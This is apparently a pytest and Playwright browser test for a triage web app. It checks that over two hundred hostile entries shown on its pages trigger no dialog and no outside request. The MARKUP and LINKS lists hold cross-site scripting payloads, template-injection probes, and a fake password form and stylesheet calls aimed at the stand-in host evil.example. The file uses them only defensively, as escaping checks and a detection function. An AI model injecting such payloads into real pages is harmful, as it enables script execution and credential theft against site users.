"""S05: two hundred hostile entries on every page that shows them: no dialog, no violation of the policy, no request outside."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from triage.sources.cleaning import body_text_and_html
from triage.storage.sources import NewSource

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]

# Our own copies of the kinds H50-H70: what each would do, if it were more than text, is a dialog or a request.
MARKUP = [
    "<script>alert('h50')</script>",
    "<img src=x onerror=alert('h51')>",
    "<a href=\"javascript:alert('h52')\">read on</a>",
    "<a href=\" java&#10;script:alert('h53')\">read on</a>",
    "<a href=\"data:text/html,<script>alert('h54')</script>\">read on</a>",
    "<svg onload=alert('h55')><script>alert('h55')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('h56')\"><text y=20>read on</text></a></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(57)&gt;">',
    "<iframe src=\"javascript:alert('h58')\"></iframe><iframe srcdoc=\"<script>parent.alert('h58')</script>\"></iframe>",
    '<form action="https://evil.example/h59"><input name=password type=password><button>Log in again</button></form>',
    "<style>*{background:url(https://evil.example/h60)} @import 'https://evil.example/h60.css';</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/h61)">over everything</p>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/h62">',
    '<base href="https://evil.example/h63/"><link rel=stylesheet href="https://evil.example/h63.css">',
    "\"><script>alert('h67')</script>",
    "</title></textarea></template></script><script>alert('h69')</script>",
    "' onmouseover='alert(69)' autofocus onfocus='alert(69)' x='",
    '<a href="/logout">stay</a> <a href="//evil.example/h70">go</a>',
    "{{ 7 * 7 }} {% for x in config %}{{ x }}{% endfor %} {{ ''.__class__ }} ${7*7} %n",
    '<hx-partial hx-target="#main">replaced</hx-partial><div hx-get="https://evil.example/hx" hx-trigger="load">x</div>',
    '<b hx-on:load="alert(1)" hx-vals=\'js:{"a": alert(2)}\' hx-trigger="every 1s[alert(3)]" hx-get="/logout">x</b>',
    "<object data='https://evil.example/o'></object><embed src='https://evil.example/e'><video src='https://evil.example/v' autoplay>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('n')>\">",
]
LINKS = [
    "javascript:alert('h64')",
    " JaVaScRiPt:alert('h65')",
    "data:text/html,<script>alert('h66')</script>",
    "//evil.example/",
    "https://evil.example/\u202egpj.exe",
    "https://user:pass@evil.example/",
    "https://evil.example\\@localhost/",
    "vbscript:msgbox(1)",
]
DISGUISES = [
    "\u202eevil\u202c txt",
    "zero\u200bwidth\u200djoined",
    "Z" + "\u0317\u0336\u0489" * 170 + "algo",
    "\ufeff\u2066isolate",
    "A" * 900,
]
BRAND = "Brévane "


def posts():
    """Yield at least two hundred hostile entries: each payload in each place that a page shows."""
    for payload in MARKUP:
        text, html = body_text_and_html(payload, markup=True)
        yield {"title": BRAND + payload}
        yield {"title": "", "text": payload + " Brévane"}
        yield {"text": payload * 20}
        yield {"author": payload[:200]}
        yield {"title": payload, "text": text or payload, "html": html}
        yield {"language": payload[:16]}
        yield {"category": payload[:60]}
        yield {"level": payload[:16], "tone": None}
    for link in LINKS:
        yield {"url": link}
        yield {"url": link, "story": 99}
    for disguise in DISGUISES:
        yield {"title": disguise}
        yield {"title": disguise, "text": disguise * 3, "author": disguise[:200]}


@pytest.fixture
def items(world):
    broken = [
        world.add_source(NewSource("feed", f"https://evil.example/{number}?x={payload}"[:2000], payload))
        for number, payload in enumerate(MARKUP)
    ]
    for source_id, payload in zip(broken, MARKUP, strict=True):
        world.fail_source(source_id, "http_error", f"503 {payload}")
        world.add_dead_letter(f"ValueError: {payload}")
    world.sources[0] = broken[0]
    items = [world.add_item(**post) for post in posts()]
    assert len(items) >= 200
    return items


def test_s05_two_hundred_hostile_entries_do_nothing_on_any_page(desk, items):
    adam = desk.person("adam")
    desk.world.browser("adam").post(f"/items/{items[0]}/note", {"text": MARKUP[0] + MARKUP[9]})
    pages = ["/queues", "/mine", "/closed", "/sources", "/dead-letters", "/process", "/help", "/queues/review"]
    for path in [*pages, *(f"/items/{item}?why=1" for item in items)]:
        adam.goto(path)
        assert is_ours(adam), path
    adam.goto("/queues/care")
    for _ in range(5):
        assert is_ours(adam), adam.url
        more = adam.get_by_role("link", name="Next 50")
        if not more.count():
            break
        with adam.expect_navigation():
            more.click()
    else:
        pytest.fail("the queue never ends")
    # Through htmx as well: fragments are parsed by another road than pages.
    adam.goto("/queues/care")
    with adam.expect_response(lambda answer: answer.url.endswith("/rows") and answer.status == 200):
        adam.keyboard.press(".")
    for row in adam.locator("#rows > .row").all()[:5]:
        row.get_by_role("button", name="Claim").click()
        expect(row.locator(".owner")).to_have_text("Yours")
        assert is_ours(adam)
    adam.goto(f"/items/{items[0]}")
    adam.keyboard.press("c")
    expect(adam.locator("#messages")).not_to_be_empty()
    assert is_ours(adam)
    # A person who is logged out by a page would land here.
    adam.goto("/queues")
    expect(adam.get_by_role("heading", name="All queues")).to_be_visible()


def is_ours(page):
    """Whether the page holds nothing but what our templates make: no foreign element, handler, style or address."""
    return page.evaluate(
        """() => {
            const foreign = document.querySelectorAll(
                "iframe, object, embed, video, math, style, base, form[action*='evil'], link[href*='evil'], #main ~ script, " +
                "[style], [onerror], [onload], [onmouseover], [onfocus], [href^='javascript' i], [href^='data' i], main script, main img, main meta");
            const strange = [...document.querySelectorAll("main a[href], main form[action]")].filter((element) => {
                const url = new URL(element.href || element.action, location.href);
                return url.origin !== location.origin && !(element.rel || "").includes("noopener noreferrer nofollow");
            });
            const title = document.title.endsWith(" – Tocsin");
            const wired = document.querySelectorAll("main [hx-on\\\\:load], main [hx-vals], main [hx-trigger*='every']");
            return foreign.length === 0 && strange.length === 0 && wired.length === 0 && title;
        }"""
    )


def test_s05_a_disguised_title_does_not_leave_its_row(desk, world):
    for disguise in DISGUISES:
        world.add_item(title=disguise)
    ana = desk.person("ana", viewport={"width": 320, "height": 700})
    for path in ("/queues/care", "/items/1", "/items/3"):
        ana.goto(path)
        assert ana.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
    ana.goto("/queues/care")
    boxes = ana.locator("#rows > .row").evaluate_all("rows => rows.map(row => [row.offsetTop, row.offsetHeight])")
    assert all(height < 500 for _, height in boxes)
